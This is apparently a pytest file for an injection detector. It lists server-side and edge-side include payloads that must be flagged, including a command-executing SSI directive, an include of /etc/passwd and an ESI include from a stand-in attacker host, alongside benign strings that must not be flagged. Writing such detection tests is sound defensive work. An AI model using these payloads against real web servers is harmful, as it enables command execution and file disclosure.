"""Server-side and edge-side includes."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families

MUST_FIRE = [
    '<!--#exec cmd="ls" -->',
    '<!--#include virtual="/etc/passwd" -->',
    "<!-- #echo var=DOCUMENT_ROOT -->",
    '<esi:include src="http://attacker.example/"/>',
]

MUST_NOT_FIRE = ["<!-- a comment -->", "Item #exec-1 in list", "#include <stdio.h>"]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_directives_fire(payload: str) -> None:
    assert "ssi" in families(payload)


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_comments_pass(payload: str) -> None:
    assert "ssi" not in families(payload)
